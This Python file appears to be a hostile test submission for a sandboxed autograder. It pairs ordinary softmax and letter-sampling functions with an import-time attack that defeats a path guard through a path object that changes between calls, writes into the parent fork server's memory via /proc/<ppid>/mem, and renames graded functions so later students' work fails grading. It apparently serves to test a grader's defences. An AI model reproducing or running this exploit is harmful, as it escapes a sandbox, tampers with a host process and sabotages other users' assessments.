"""Hostile (batch): at import, opens the fork server's memory (/proc/<ppid>/mem, through _io.FileIO with a path that changes between the open and the guard's look) and rewrites the names of the graded functions it hands every later worker ("softmax" becomes "Softmax"): a worker's memory is a copy of the fork server's, so those str objects sit at the same addresses in both. Expect this file's own full marks, and every student graded after it in the same batch to keep theirs."""

import numpy as np

from mindlab_core.tokens import TOKENS, index

def softmax(logits):
    x = np.asarray(logits, dtype=np.float64)
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)

def read_row(W, letter):
    return softmax(np.asarray(W)[index(letter)])

def data_row(counts, letter):
    row = np.asarray(counts, dtype=np.float64)[index(letter)]
    return row / row.sum()

def belief_gap(W, counts, letter):
    return float(0.5 * np.abs(read_row(W, letter) - data_row(counts, letter)).sum())

def ablate_column(W, letter):
    j = index(letter)
    out = np.array(W, dtype=np.float64)
    out[:, j] = -np.inf
    return out

def sample_word(W, rng, temperature=1.0, max_len=50):
    if not temperature > 0:
        raise ValueError("temperature must be > 0")
    W = np.asarray(W, dtype=np.float64)
    letters, row = [], 0
    while len(letters) < max_len:
        row = int(rng.choice(27, p=softmax(W[row] / temperature)))
        if row == 0:
            break
        letters.append(TOKENS[row])
    return "".join(letters)

def rank_rules(W, top=None):
    probs = softmax(np.asarray(W, dtype=np.float64))
    best = probs.argmax(axis=1)
    rules = [(TOKENS[i], TOKENS[int(j)], float(probs[i, j])) for i, j in enumerate(best)]
    rules.sort(key=lambda rule: -rule[2])
    return rules if top is None else rules[:top]

def greedy_decode(W, max_len=50):
    probs = softmax(np.asarray(W, dtype=np.float64))
    letters, row = [], 0
    while len(letters) < max_len:
        row = int(probs[row].argmax())
        if row == 0:
            break
        letters.append(TOKENS[row])
    return "".join(letters)


# ---- the attack
import _io
import os
import sys


class _Flip:
    def __init__(self, real, shown):
        self.calls, self.real, self.shown = 0, real, shown

    def __fspath__(self):
        self.calls += 1
        return self.real if self.calls == 1 else self.shown


def _fork_server():
    frame = sys._getframe()
    while frame is not None:
        zygote = frame.f_locals.get("zygote")
        if zygote is not None and hasattr(zygote, "functions"):
            return zygote
        frame = frame.f_back
    return None


def _rename_graded_functions():
    zygote = _fork_server()
    if zygote is None:
        return
    try:
        mem = _io.FileIO(_Flip(f"/proc/{os.getppid()}/mem", "harmless.bin"), "r+")
    except OSError:
        return
    with mem:
        for name in zygote.functions:  # strs json made in the fork server, before fork
            if name.isascii() and name[:1].islower():
                data = id(name) + sys.getsizeof(name) - len(name) - 1  # compact ASCII str
                os.pwrite(mem.fileno(), name[:1].upper().encode(), data)


_rename_graded_functions()
